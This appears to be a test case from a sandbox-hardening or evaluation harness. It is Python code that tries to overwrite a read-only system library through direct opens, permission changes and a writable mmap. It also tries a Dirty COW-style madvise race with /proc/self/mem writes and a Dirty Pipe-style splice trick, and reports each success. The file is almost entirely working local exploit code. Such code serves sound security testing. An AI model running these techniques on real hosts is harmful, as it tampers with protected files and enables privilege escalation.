# attack: privilege-page-cache  expect: scored=honest
"""Write to a file of the machine that may only be read: by one's own memory file, by pages given back in a race, and
by a pipe that still points at the page. The text of `this` is the victim.
"""

import contextlib
import ctypes
import mmap
import os
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
path = os.__file__.replace("os.py", "this.py")
before = open(path, "rb").read()
for flags in (os.O_RDWR, os.O_WRONLY | os.O_APPEND):
    with contextlib.suppress(OSError):
        os.close(os.open(path, flags))
        reached("a library can be written to")
victim = os.open(path, os.O_RDONLY)
for change in (os.fchmod, lambda place, _: os.chmod(path, 0o777), lambda place, _: os.truncate(path, 0)):
    with contextlib.suppress(OSError):
        change(victim, 0o777)
        reached("a library can be changed")
with contextlib.suppress(OSError):
    mmap.mmap(victim, 0, flags=mmap.MAP_SHARED, prot=mmap.PROT_READ | mmap.PROT_WRITE)
    reached("a library can be mapped to be written")
address = libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_PRIVATE, victim, 0)
end = time.monotonic() + 1


def give_back():
    while time.monotonic() < end:
        libc.madvise(ctypes.c_void_p(address), 4096, mmap.MADV_DONTNEED)


racing = threading.Thread(target=give_back)
racing.start()
libc.prctl(4, 1, 0, 0, 0)  # one's own files in /proc belong to oneself again
with contextlib.suppress(OSError):
    memory = os.open("/proc/self/mem", os.O_RDWR)
    while time.monotonic() < end:
        os.pwrite(memory, b"#", address)
racing.join()
libc.prctl(4, 0, 0, 0, 0)
come, go = os.pipe()
with contextlib.suppress(OSError, AttributeError):
    for _ in range(16):
        os.write(go, bytes(4096))
    for _ in range(16):
        os.read(come, 4096)
    os.splice(victim, go, 1, offset_src=0)
    os.write(go, b"#")
if open(path, "rb").read() != before:
    reached("a library was changed")
